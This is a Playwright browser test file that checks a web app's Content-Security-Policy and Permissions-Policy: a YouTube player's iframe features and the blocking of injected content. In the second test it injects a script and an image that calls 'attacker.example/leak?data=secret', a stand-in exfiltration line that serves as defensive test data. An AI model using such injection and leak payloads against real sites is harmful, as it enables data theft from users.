/**
 * The pages' policies at work in Chromium: what they let through (the YouTube player, with the
 * features its iframe asks for) and what they stop (a script or an image an attacker slipped in).
 * Every other browser test also fails on any violation (tests/e2e/test.ts).
 */
import { demoIds } from './fixtures';
import { expect, test } from './test';

const PLAYER = 'https://www.youtube-nocookie.com';
const PLAYER_FEATURES = ['accelerometer', 'autoplay', 'clipboard-write', 'encrypted-media', 'fullscreen', 'gyroscope', 'picture-in-picture'];

interface FeaturePolicy {
	allowsFeature(feature: string, origin?: string): boolean;
}

test('the YouTube facade turns into the youtube-nocookie player, which keeps its features', async ({ page }) => {
	// Offline the player cannot load; a stand-in answers, so that the frame really loads.
	const asked: string[] = [];
	await page.route(`${PLAYER}/**`, (route) => {
		asked.push(route.request().url());
		return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Player</title><p>Player</p>' });
	});
	await page.goto(`/starfall/global/posts/${demoIds().postWithVideo}`);
	await page.locator('a[data-youtube-id]').first().click();
	const frame = page.locator('.post-body iframe');
	await expect(frame).toHaveAttribute('src', /^https:\/\/www\.youtube-nocookie\.com\/embed\/[A-Za-z0-9_-]{11}\?autoplay=1$/);
	// The browser asked for the player at all: frame-src let it.
	await expect.poll(() => asked.length).toBe(1);
	await expect(page.frameLocator('.post-body iframe').getByText('Player')).toBeVisible();
	const player = page.frames().find((candidate) => candidate.url().startsWith(`${PLAYER}/embed/`));
	if (!player) throw new Error('The player frame did not load');
	const granted = await player.evaluate((features) => {
		const policy = (document as unknown as { featurePolicy: FeaturePolicy }).featurePolicy;
		return features.filter((feature) => policy.allowsFeature(feature));
	}, PLAYER_FEATURES);
	expect(granted).toEqual(PLAYER_FEATURES);
	const deniedInPlayer = await player.evaluate(() =>
		['camera', 'microphone', 'geolocation', 'payment', 'usb'].filter((feature) =>
			(document as unknown as { featurePolicy: FeaturePolicy }).featurePolicy.allowsFeature(feature),
		),
	);
	expect(deniedInPlayer).toEqual([]);
});

// One board page for the two tests that look at it: the check that only reads comes first, as a step of its own.
test('a page may use no powerful feature, nor grant one to a frame; its policy stops a script and an outside image slipped in, and the tests notice', async ({
	page,
	policyViolations,
}) => {
	const outside: string[] = [];
	await page.route('https://attacker.example/**', (route) => {
		outside.push(route.request().url());
		return route.abort();
	});
	await page.goto('/starfall/global/boards/12');
	await test.step('a page may use no powerful feature, nor grant one to a frame', async () => {
		const allowed = await page.evaluate((player) => {
			const policy = (document as unknown as { featurePolicy: FeaturePolicy }).featurePolicy;
			return ['camera', 'microphone', 'geolocation', 'payment', 'usb', 'serial', 'hid', 'display-capture'].filter(
				(feature) => policy.allowsFeature(feature) || policy.allowsFeature(feature, player),
			);
		}, PLAYER);
		expect(allowed, 'powerful features the page allows').toEqual([]);
	});
	await test.step('the page policy stops a script and an outside image slipped into a page, and the tests notice', async () => {
		const ran = await page.evaluate(() => {
			const script = document.createElement('script');
			script.textContent = 'document.documentElement.dataset.injected = "ran"';
			document.body.appendChild(script);
			const image = document.createElement('img');
			image.src = 'https://attacker.example/leak?data=secret';
			document.body.appendChild(image);
			return document.documentElement.dataset['injected'] === 'ran';
		});
		expect(ran, 'the slipped-in script ran').toBe(false);
		await expect
			.poll(() => policyViolations.filter((violation) => violation.startsWith('event: ')).map((violation) => violation.split(' ')[1]), {
				message: 'the violations the page reported',
			})
			.toEqual(expect.arrayContaining(['script-src-elem', 'img-src']));
		await expect
			.poll(() => policyViolations.filter((violation) => violation.startsWith('console: ')).length, { message: "the browser's console errors" })
			.toBeGreaterThanOrEqual(2);
		expect(outside, 'requests to the outside host').toEqual([]);
		// These violations were this test's point; the fixture checks that nothing else was refused.
		policyViolations.length = 0;
	});
});
